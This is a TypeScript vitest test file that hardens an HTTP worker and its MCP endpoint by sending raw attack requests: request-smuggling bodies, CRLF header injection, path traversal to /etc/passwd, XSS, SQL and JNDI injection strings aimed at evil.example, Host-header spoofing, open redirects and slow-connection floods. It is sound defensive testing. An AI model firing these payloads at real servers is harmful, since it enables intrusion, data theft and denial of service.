/** What no client library sends, byte by byte: a clean refusal or a closed connection, never a 5xx. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { get, headerOf, PLACES, type RawAnswer, raw } from "../../support/attacks.ts";
import { contentOf } from "../../support/catalog-content.ts";
import { share } from "../../support/share.ts";
import { ownWorker } from "../../support/worker.ts";

const GTIN = "09506000134352";

const { catalog, worker } = await ownWorker();
let before: string;
beforeAll(async () => {
  before = await contentOf(catalog.client);
});
afterAll(async () => {
  expect(await contentOf(catalog.client)).toBe(before);
});

const BODY = '{"jsonrpc":"2.0","id":"one","method":"tools/call","params":{"name":"ping"}}';
const post = (lines: string[], body = BODY) =>
  [
    "POST /mcp HTTP/1.1",
    "Host: localhost",
    "Content-Type: application/json",
    ...lines,
    "",
    body,
  ].join("\r\n");

/** One answer at most, a client's mistake or none, and no trace of a second request. */
function expectRefused(answer: RawAnswer) {
  expect([0, 400, 403, 404, 405, 408, 413, 414, 415, 431, 501]).toContain(answer.status);
  expect(answer.text.match(/HTTP\/1\.1 \d{3}/g)?.length ?? 0).toBeLessThan(2);
}

/**
 * It may be taken or refused; but nothing of ours breaks, and it is answered once. The runtime's own
 * front end, which the open network does not see, answers some requests itself with 500 or 501.
 */
function expectSound(answer: RawAnswer) {
  if (headerOf(answer, "x-correlation-id").length > 0) expect(answer.status).toBeLessThan(500);
  expect(answer.text.match(/HTTP\/1\.1 \d{3}/g)?.length ?? 0).toBeLessThan(2);
  for (const [name] of answer.headers) expect(name).not.toMatch(/x-injected|set-cookie/);
}

describe("two readings of one request", () => {
  const chunked = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;
  const SMUGGLED = "GET /products/04012345678901 HTTP/1.1\r\nHost: localhost\r\n\r\n";

  test.each([
    [
      "length and chunks",
      post(
        [`Content-Length: ${BODY.length}`, "Transfer-Encoding: chunked"],
        chunked(BODY) + SMUGGLED,
      ),
    ],
    [
      "chunks and a length of nothing",
      post(["Transfer-Encoding: chunked", "Content-Length: 0"], chunked(BODY) + SMUGGLED),
    ],
    ["two lengths", post([`Content-Length: ${BODY.length}`, "Content-Length: 0"], BODY + SMUGGLED)],
    ["a list of lengths", post([`Content-Length: ${BODY.length}, 0`], BODY + SMUGGLED)],
    ["a negative length", post(["Content-Length: -1"], SMUGGLED)],
    ["a length with a sign", post([`Content-Length: +${BODY.length}`], BODY + SMUGGLED)],
    ["a length in hexadecimal", post(["Content-Length: 0x10"], SMUGGLED)],
    ["a length past all numbers", post(["Content-Length: 99999999999999999999999"], SMUGGLED)],
    ["an unknown coding", post(["Transfer-Encoding: xchunked"], chunked(BODY) + SMUGGLED)],
    [
      "two codings",
      post(["Transfer-Encoding: chunked", "Transfer-Encoding: identity"], chunked(BODY) + SMUGGLED),
    ],
    ["garbage for chunks", post(["Transfer-Encoding: chunked"], `zz\r\n${SMUGGLED}`)],
    ["a chunk of negative size", post(["Transfer-Encoding: chunked"], `-5\r\n${SMUGGLED}`)],
    [
      "a chunk past all numbers",
      post(["Transfer-Encoding: chunked"], `ffffffffffffffffff\r\n${SMUGGLED}`),
    ],
    ["a space before the colon", post([`Content-Length : ${BODY.length}`], BODY + SMUGGLED)],
  ])("are not possible with %s", async (_name, bytes) => {
    const answer = await raw(worker.url, bytes, { halfClose: true });
    expect(answer.status).toBeLessThan(500);
    // What is hidden in the body of a request is never answered as a request of its own.
    expect(answer.text).not.toContain("04012345678901");
    if (answer.status === 200) expect(answer.text).toContain('"id":"one"');
  });
});

describe("the request line and its headers", () => {
  test.each([
    ["no method", `\x00 / HTTP/1.1\r\nHost: localhost\r\n\r\n`],
    ["another protocol", "SSH-2.0-OpenSSH_9.0\r\n\r\n"],
    ["TLS in the clear", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"],
    ["HTTP/2's preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"],
    ["a version that is none", "GET / HTTP/9.9\r\nHost: localhost\r\n\r\n"],
    ["no version", "GET /\r\n\r\n"],
    ["a space in the target", get("/01/ 1")],
    ["NUL in the target", get("/01/\x001")],
    ["NUL in a header", get("/", "X-A: a\x00b")],
    ["a header without a colon", get("/", "X-Injected")],
    ["a header without a name", get("/", ": x")],
    ["a bare line feed in a header", get("/", "X-A: a\nX-Injected: b")],
    ["a bare carriage return in a header", get("/", "X-A: a\rX-Injected: b")],
    ["a folded header", get("/", "X-A: a", " X-Injected: b")],
    ["a target of 1 MB", get(`/01/${"9".repeat(1_000_000)}`)],
    ["a header of 1 MB", get("/", `X-A: ${"a".repeat(1_000_000)}`)],
    ["10,000 headers", get("/", ...Array.from({ length: 10_000 }, (_, i) => `X-${i}: a`))],
    ["an asterisk", get("*")],
    ["an authority", "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"],
    ["TRACE", "TRACE / HTTP/1.1\r\nHost: localhost\r\nX-Injected: a\r\nContent-Length: 0\r\n\r\n"],
    ["an unknown method", "BREW / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n"],
  ])("with %s are no fault of the server", async (_name, bytes) => {
    expectSound(await raw(worker.url, bytes, { halfClose: true }));
  });

  test.each([
    [
      "two hosts",
      "GET /products/9506000134352 HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
    ],
    ["an absolute target", get(`http://evil.example/products/9506000134352`)],
    [
      "another host",
      "GET /products/9506000134352 HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n",
    ],
    [
      "a forwarded host",
      get(
        "/products/9506000134352",
        "X-Forwarded-Host: evil.example",
        "Forwarded: host=evil.example",
      ),
    ],
    ["no host", "GET /products/9506000134352 HTTP/1.0\r\n\r\n"],
  ])("%s: the answer names only our own origin", async (_name, bytes) => {
    const answer = await raw(worker.url, bytes, { halfClose: true });
    expectSound(answer);
    expect(answer.text).not.toContain("evil.example");
    for (const location of headerOf(answer, "location")) {
      expect(location).toBe(`http://localhost:8787/products/${GTIN}`);
    }
  });

  test("the MCP endpoint answers no other host", async () => {
    const bytes = post([`Content-Length: ${BODY.length}`]).replace(
      "Host: localhost",
      "Host: evil.example",
    );
    expectRefused(await raw(worker.url, bytes));
  });
});

const CHARACTERS = [
  ...[
    "%00",
    "%0a",
    "%0d%0aX-Injected:%20a",
    "%0D%0ASet-Cookie:a=1",
    "%2e%2e/%2e%2e/etc/passwd",
    "..%2f..%2f",
  ],
  ...[
    "../../etc/passwd",
    "..;/",
    "..\\..\\",
    "%5c%5cevil.example",
    "\\\\evil.example\\",
    "/evil.example/%2f..",
  ],
  ...[
    "%c0%ae%c0%ae/",
    "%c0%af",
    "%e0%80%af",
    "%ff%fe",
    "%ed%a0%80",
    "%f4%90%80%80",
    "%",
    "%zz",
    "%u0041",
  ],
  ...[
    "\xc3\xa9",
    "\xff",
    "\xe2\x80\xae",
    "%e2%80%ae",
    "%e2%80%a8",
    "%ef%bb%bf",
    ";jsessionid=1",
    "a;b=c;d",
  ],
  ...[
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__proto__[a]=1",
    "constructor.prototype",
  ],
  ...[
    "%3cscript%3ealert(1)%3c/script%3e",
    "'%20OR%201=1--",
    "%22%20OR%20%22%22=%22",
    "{{7*7}}",
    "$%7bjndi:ldap://evil.example%7d",
  ],
  ...[
    "@evil.example",
    "evil.example:80",
    "http://evil.example",
    "//evil.example",
    "#x",
    "?",
    "&&&",
    "a=b&a=c",
  ],
];

describe.each(PLACES)("in %s", (place) => {
  test("no character breaks it, splits a header or is markup", async () => {
    for (const text of share(CHARACTERS, 4, PLACES.indexOf(place))) {
      const answer = await raw(worker.url, get(place.replace("{}", text), "Accept: text/html"));
      expect(answer.status, text).toBeGreaterThan(0);
      expectSound(answer);
      expect(answer.text, text).not.toMatch(/<script>alert|root:x:0/);
      for (const location of headerOf(answer, "location")) {
        expect(new URL(location, "http://localhost:8787").host, text).not.toContain("evil");
      }
    }
  });
});

test.each([
  "//evil.example/",
  "//evil.example/01/09506000134352",
  "/\\evil.example",
  "///evil.example",
  "/%2f%2fevil.example",
  "//products/9506000134352",
])("%s is no redirect to another host", async (target) => {
  const answer = await raw(worker.url, get(target));
  expectSound(answer);
  for (const location of headerOf(answer, "location")) {
    expect(location).toMatch(/^http:\/\/localhost:8787\//);
  }
});

describe("the query of a scan goes on to the target", () => {
  let target: string;
  beforeAll(async () => {
    [target = ""] = headerOf(await raw(worker.url, get(`/01/${GTIN}`)), "location");
    expect(target).toMatch(/^https:\/\/[^?#]+$/);
  });

  test.each([
    ["a=b", "a=b"],
    ["a=1&a=2&a=1", "a=1&a=2&a=1"],
    ["a=%0d%0aSet-Cookie:%20x=1", "a=%0d%0aSet-Cookie:%20x=1"],
    ["a=%00%0A", "a=%00%0A"],
    ["a=b#c", "a=b"],
    ["a=%23c", "a=%23c"],
    ["a=b?c=d", "a=b?c=d"],
    ["a=%E2%80%AE", "a=%E2%80%AE"],
    ["__proto__=1&constructor=2", "__proto__=1&constructor=2"],
    ["a=//evil.example", "a=//evil.example"],
    ["&&", "&&"],
    ["a=%3Cscript%3E", "a=%3Cscript%3E"],
    ["a=\\x", "a=\\x"],
  ])("%s as %s", async (sent, forwarded) => {
    const answer = await raw(worker.url, get(`/01/${GTIN}?${sent}`));
    expect(answer.status).toBe(307);
    expect(headerOf(answer, "location")).toEqual([`${target}?${forwarded}`]);
    expect(answer.headers.map(([name]) => name)).not.toContain("set-cookie");
  });

  test.each(["a=\r\nX-Injected: 1", "a=\nX-Injected: 1", "a=\x00"])("%j is none", async (sent) => {
    const answer = await raw(worker.url, get(`/01/${GTIN}?${sent}`), {
      halfClose: true,
    });
    expectSound(answer);
    expect(headerOf(answer, "location").join()).toMatch(/^(?!.*Injected)[!-~]*$/);
  });

  test("10,000 parameters are forwarded as they are, or refused", async () => {
    const query = Array.from({ length: 10_000 }, (_, i) => `p${i}=1`).join("&");
    const answer = await raw(worker.url, get(`/01/${GTIN}?${query}`));
    expectSound(answer);
    if (answer.status === 307) expect(headerOf(answer, "location")[0]).toContain(query);
  });
});

describe("who is slow", () => {
  test("keeps nobody else waiting: a byte at a time, half a body, a closed half", async () => {
    const slow = [
      raw(worker.url, get("/health/live"), { pace: 50, patience: 30_000 }),
      ...Array.from({ length: 50 }, () =>
        raw(worker.url, "GET / HTTP/1.1\r\nHost: loc", { patience: 3_000 }),
      ),
      ...Array.from({ length: 50 }, () =>
        raw(worker.url, post([`Content-Length: ${BODY.length}`], BODY.slice(0, 10)), {
          patience: 3_000,
        }),
      ),
      ...Array.from({ length: 20 }, () =>
        raw(worker.url, post(["Content-Length: 1000"], BODY), { halfClose: true, patience: 3_000 }),
      ),
    ];
    for (let i = 0; i < 20; i++) {
      const answer = await fetch(`${worker.url}/01/${GTIN}`, { redirect: "manual" });
      expect(answer.status).toBe(307);
    }
    const [trickled, ...cut] = await Promise.all(slow);
    expect([0, 200, 408]).toContain(trickled!.status);
    for (const answer of cut) expectRefused(answer);
  });
});
